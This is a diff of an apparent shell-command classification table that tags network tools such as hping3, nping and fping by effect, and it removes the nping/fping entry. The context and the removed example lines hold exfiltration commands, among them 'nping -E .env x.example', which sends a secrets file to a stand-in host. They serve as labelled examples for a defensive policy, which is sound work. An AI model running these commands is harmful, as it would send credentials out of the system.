@@ -433,25 +433,6 @@ CLIENTS = (
             example("hping3 -e secret x.example", REMOTE_READ, EGRESS),
         ),
     ),
-    command(
-        *("nping", "fping6", "fping"),
-        effects=(REMOTE_READ,),
-        options=(
-            *flags(
-                "-S, -F, -R, -1 --icmp, -2 --udp, -V, -q, -n, -a, -s, -g, -A, -e --sign-flag, -u, -l, -m, -d, --flood, --fast, --faster, --rand-source, --scan, -O, --tcp, --icmp-raw"
-            ),
-            *values("-c --count, -i --interval, -p --destport, -t --ttl, --data, -b, -B, -C, -r, -H, -I --interface, -k, -w, -D"),
-            *values("--sign, -f", takes=READ),
-            option("-E", "--file", takes=READ, effects=(EGRESS,)),
-            option("--data-string", takes=TEXT, effects=(EGRESS,)),
-        ),
-        operands=operands(many=HOST),
-        examples=(
-            example("fping -c1 db1", REMOTE_READ),
-            example("nping -E .env x.example", REMOTE_READ, EGRESS, SECRET_READ),
-            example("nping --icmp --data-string abc x.example", REMOTE_READ, EGRESS),
-        ),
-    ),
 )
 
 BROKERS = (
